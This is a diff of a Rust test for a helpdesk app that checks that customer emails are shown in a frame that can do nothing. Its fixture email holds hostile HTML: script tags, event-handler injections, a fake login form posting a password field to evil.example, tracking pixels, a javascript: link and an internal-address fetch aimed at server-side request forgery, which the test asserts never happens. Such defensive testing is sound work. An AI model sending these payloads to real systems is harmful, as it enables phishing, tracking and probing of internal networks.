@@ -151,7 +151,7 @@ fn hostile(from: &str) -> String {
     let html = "<style>p{background:url(https://evil.example/s)}</style><script>document.title='x'</script>\
                 <p style=3D\"color:red;position:fixed;background:url(https://evil.example/b)\" onclick=3D\"x()\">Guten Tag</p>\
                 <form action=3D\"https://evil.example/f\"><input name=3Dpassword><button>Anmelden</button></form>\
-                <img src=3D\"cid:one\" alt=3D\"eins\" onerror=3D\"x()\"><img src=3D\"https://evil.example/pixel?u=3D1\">\
+                <img src=3D\"cid:one\" alt=3D\"eins\" onerror=3D\"x()\"><img src=3D\"https://192.0.2.1/pixel?u=3D1\">\
                 <img src=3D\"http://127.0.0.1:1/\"><iframe src=3D\"https://evil.example/i\"></iframe>\
                 <svg onload=3D\"x()\"></svg><a href=3D\"https://evil.example/l\">www.bank.example</a><a href=3D\"javascript:x()\">y</a>";
     format!(
@@ -167,7 +167,10 @@ fn a_mail_is_shown_as_it_was_sent_in_a_frame_that_can_do_nothing() {
     let mine = web.desk.customer("Teekontor", "level-3");
     let other = web.desk.customer("Kaffee", "level-3");
     let contact = web.desk.read(&Actor::Operator, move |view| desk::customer::get_contact(view, mine.contact));
-    web.desk.receives(&hostile(&contact.email));
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    listener.set_nonblocking(true).unwrap();
+    let ours = format!("127.0.0.1:{}", listener.local_addr().unwrap().port());
+    web.desk.receives(&hostile(&contact.email).replace("127.0.0.1:1", &ours));
     let foreign = web.desk.opens(&other.actor(), "Anderes").number;
     let (_, jana) = web.staff("Jana", Role::Agent);
     let (owner, stranger) = (web.contact(&mine), web.contact(&other));
@@ -203,6 +206,17 @@ fn a_mail_is_shown_as_it_was_sent_in_a_frame_that_can_do_nothing() {
             assert!(!body.contains(bad), "{bad}: {body}");
         }
 
+        // One click asks for them, with a word that no other site knows; nobody of our own network is asked even then.
+        let load = page.body.split("?pictures=").nth(1).unwrap().split('"').next().unwrap();
+        let loaded = reader.get(&format!("{path}?pictures={load}")).body;
+        assert!(
+            loaded.contains(&format!("{framed}?pictures={load}\"")) && loaded.contains("through this server"),
+            "{loaded}"
+        );
+        let guessed = reader.get(&format!("{path}?pictures={}", "0".repeat(load.len()))).body;
+        assert!(!guessed.contains("through this server"), "{guessed}");
+        assert_eq!(reader.get(&format!("{framed}?pictures={load}")).body, shown.body);
+
         // Whoever does not see the ticket sees nothing; neither does another ticket's number open it.
         for path in [path, &framed] {
             let through = path.replace("tickets/1/", &format!("tickets/{foreign}/"));
@@ -212,6 +226,8 @@ fn a_mail_is_shown_as_it_was_sent_in_a_frame_that_can_do_nothing() {
             assert_eq!(web.browser().get(path).status, 303);
         }
     }
+    let asked = listener.accept().map(|(_, from)| from);
+    assert!(asked.is_err(), "{asked:?} came to a server of our own network");
 }
 
 #[test]
